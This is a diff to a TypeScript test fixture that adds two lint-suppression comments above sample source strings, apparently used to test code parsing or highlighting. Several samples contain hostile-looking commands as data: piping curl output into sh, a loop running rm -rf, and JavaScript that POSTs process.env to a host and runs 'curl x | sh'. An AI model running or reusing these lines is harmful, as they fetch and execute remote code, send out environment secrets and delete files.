@@ -17,6 +17,7 @@ const SAMPLES: [string, string][] = [
     'bash',
     'set -eu\r\nx=$(curl -s "https://é.io/😀")\r\nif [ -n "$x" ]; then echo "$x" | sh >> /tmp/o 2>&1 || true; fi\nwhile true; do sleep 1; done &\n',
   ],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell source, ${HOME} is meant literally
   ['bash', 'cat <<EOF > f\nhello ${HOME}\nEOF\nfor f in a b; do rm -rf "$f"; done\nfunction g( { broken'],
   [
     'python',
@@ -28,6 +29,7 @@ const SAMPLES: [string, string][] = [
   ],
   [
     'javascript',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: JavaScript source, the template literal is meant literally
     'const { exec } = require("child_process");\nasync function f(a = 1, ...r) { for (;;) { try { await fetch(`https://x/${a}`, { method: "POST", body: process.env }); } catch {} } }\nexec("curl x | sh"',
   ],
   [
